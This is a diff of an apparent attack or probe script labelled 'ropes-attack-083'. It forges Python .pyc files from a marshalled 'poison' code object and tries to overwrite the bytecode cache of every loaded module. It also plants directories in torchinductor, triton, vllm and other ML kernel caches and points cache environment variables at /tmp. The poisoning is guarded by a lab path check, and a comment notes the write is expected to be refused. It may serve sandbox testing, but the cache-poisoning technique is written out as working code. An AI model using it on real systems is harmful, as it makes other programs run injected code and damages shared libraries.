@@ -12,11 +12,13 @@ pyc = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(poison)
 def overwrite(path):
     with open(path, "r+b") as file:  # were this not refused, the libraries of this machine would be at stake
         file.write(pyc) if path.startswith(LAB[0]) else None
+def make(folder):
+    os.makedirs(folder)
+    os.removedirs(folder)
 def poison_beside(source):
     cached = importlib.util.cache_from_source(source)
-    attempt(os.makedirs, os.path.dirname(cached))
+    attempt(make, os.path.dirname(cached))
     attempt(overwrite, cached)
-    attempt(os.open, cached, os.O_WRONLY)
 for module in [*sys.modules.values()]:
     if path := getattr(module, "__file__", None):
         poison_beside(path)
@@ -27,8 +29,7 @@ home = os.path.expanduser("~")
 for cache in ("/tmp/torchinductor_root", "/tmp/torchinductor_nobody", "/tmp/ropes-attack-083", f"{home}/.triton",
               f"{home}/.cache/torch/kernels", f"{home}/.cache/torch_extensions", f"{home}/.cache/vllm", "/root/.triton",
               "/root/.cache/torch/hub", "/root/.nv/ComputeCache", f"{home}/.cache/ropes", "/root/.cache/ropes"):
-    attempt(os.makedirs, cache + "/ropes-attack-083")
-    attempt(os.open, cache + "/ropes-attack-083", os.O_CREAT | os.O_WRONLY)
+    attempt(make, cache + "/ropes-attack-083")
 os.environ.update(TORCHINDUCTOR_CACHE_DIR="/tmp/ropes-attack-083", TRITON_CACHE_DIR="/tmp/ropes-attack-083",
                   PYTHONPYCACHEPREFIX="/tmp/ropes-attack-083", XDG_CACHE_HOME="/tmp/ropes-attack-083")
 sys.dont_write_bytecode, sys.pycache_prefix = False, "/tmp/ropes-attack-083"
